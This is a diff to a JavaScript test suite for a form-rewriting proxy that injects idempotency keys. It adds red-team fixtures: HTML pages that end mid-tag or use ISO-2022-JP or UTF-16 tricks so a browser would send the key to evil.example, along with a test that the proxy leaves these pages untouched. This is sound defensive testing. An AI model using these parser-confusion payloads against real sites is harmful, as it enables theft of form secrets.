@@ -69,6 +69,39 @@ const MISREAD = {
   "/misread/left-open": `<form method="post" action="/orders"><div><input name="q"></form><button formmethod="get" formaction="/preview">Look</button></div>`,
   "/misread/left-open-id": `<form method="post" action="/orders" id="l"><section></form><button formmethod="get">Look</button></section>`,
 };
+// Pages a browser reads otherwise than the rewriter at their very end, or
+// in another charset than the rewriter (the red team's findings, each sent
+// a key to another origin or into a URL in Chromium): served as bytes.
+const UNFINISHED_BASE =
+  '<form method="post" action="orders"><button>Pay</button></form><form method="post" action="/y" id="x"><button>Other</button></form><base href="https://evil.example/" ';
+const ENDS_AND_CHARSETS = {
+  // A page ending inside a tag: an input placed after it would finish the
+  // tag and lend it `form="x"` and the key as its value.
+  "/ends/in-tag": [
+    "text/html",
+    '<form method="post" action="/orders" id="x"><input name="q"></form><button name="k" formmethod="get" formaction="https://evil.example/c" ',
+  ],
+  "/ends/in-attribute": [
+    "text/html",
+    '<form method="post" action="/orders" id="x"><input name="q"></form><button formmethod="get" formaction="https://evil.example/c" title="',
+  ],
+  // No charset in the header, ISO-2022-JP in a <meta>: past ESC $ B a
+  // browser reads two-byte text where the rewriter reads markup.
+  "/ends/iso-2022-jp": [
+    "text/html",
+    '<meta charset="iso-2022-jp"><form method="get" action="/search"><input name="q">\x1b$B</form><form method="post" action="/orders">\x1b(B<button>Pay</button></form>',
+  ],
+  // A UTF-16 byte order mark, which a browser obeys over the header.
+  "/ends/utf-16-bom": [
+    "text/html; charset=utf-8",
+    Buffer.concat([
+      Buffer.from([0xff, 0xfe]),
+      Buffer.from('<form method="get" action="https://evil.example/c"><textarea name="t">', "utf16le"),
+      Buffer.from('<form  method="post" action="/orders"><button>Pay</button></form>'),
+      Buffer.from("</textarea><button>Search</button></form>", "utf16le"),
+    ]),
+  ],
+};
 // Bases after a keyed form with no id (invalid HTML, honoured by browsers):
 // the one on another origin taken out, the <noscript> holding one emptied;
 // the base on the page's origin and the other <noscript> kept.
@@ -173,6 +206,15 @@ function server() {
       res.writeHead(200, { "content-type": "text/html" });
       // The page's own origin, as the worker is reached.
       return res.end({ "/based": BASED, "/late-base": LATE_BASE }[req.url] ?? ELSEWHERE.replace("ORIGIN", BASE));
+    }
+    if (req.url === "/ends/base") {
+      res.writeHead(200, { "content-type": "text/html" });
+      return res.end(UNFINISHED_BASE);
+    }
+    if (req.url in ENDS_AND_CHARSETS) {
+      const [type, body] = ENDS_AND_CHARSETS[req.url];
+      res.writeHead(200, { "content-type": type });
+      return res.end(body);
     }
     if (req.url === "/other-ways") {
       res.writeHead(200, { "content-type": "text/html" });
@@ -419,6 +461,20 @@ describe("IDEMPOTENCY_FORMS=inject", () => {
       ),
       "the foreign base's href and the <noscript> holding one taken out; every other byte as sent",
     );
+  });
+
+  test("a page ending inside a tag, or read in another charset by a browser, gets no key there; every byte as sent", async () => {
+    for (const [path, [, body]] of Object.entries(ENDS_AND_CHARSETS)) {
+      const bytes = Buffer.from(
+        await (await proxy.fetch(path, { headers: { "accept-encoding": "identity" } })).arrayBuffer(),
+      );
+      assert.deepEqual(bytes, Buffer.from(body), `${path}: ${bytes}`);
+    }
+    // A base finished by nothing: a browser drops it at the end of the page,
+    // and the form before it keeps its key.
+    const html = await (await proxy.fetch("/ends/base")).text();
+    assert.equal(html.replace(KEY_FIELD, ""), UNFINISHED_BASE, html);
+    assert.equal([...html.matchAll(KEY_FIELD)].length, 1, "the form with no id, before its end tag");
   });
 
   test("pages the rewriter cannot read (UTF-16, an unknown charset, a 206 range) pass as sent", async () => {
